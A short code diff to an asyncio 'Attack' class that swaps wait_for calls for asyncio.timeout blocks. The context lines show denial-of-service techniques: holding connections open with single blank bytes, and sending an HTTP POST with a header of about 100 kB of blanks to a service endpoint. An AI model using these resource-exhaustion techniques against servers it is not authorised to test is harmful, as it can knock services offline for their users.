@@ -95,7 +95,8 @@ class Attack:
             while not reader.at_eof():
                 writer.write(b" ")
                 with contextlib.suppress(TimeoutError):
-                    await asyncio.wait_for(reader.read(1000), 1)
+                    async with asyncio.timeout(1):
+                        await reader.read(1000)
         finally:
             writer.transport.abort()
         raise EOFError
@@ -129,7 +130,8 @@ class Attack:
             line = b"POST /easymlnb/services/quick/call HTTP/1.1\r\nX: "
             writer.write(line + b" " * BLANKS + b"\x01\r\n\r\n")
             self._did["headers of 100 kB of blanks"] += 1
-            await asyncio.wait_for(reader.read(), 20)
+            async with asyncio.timeout(20):
+                await reader.read()
         finally:
             writer.transport.abort()
 
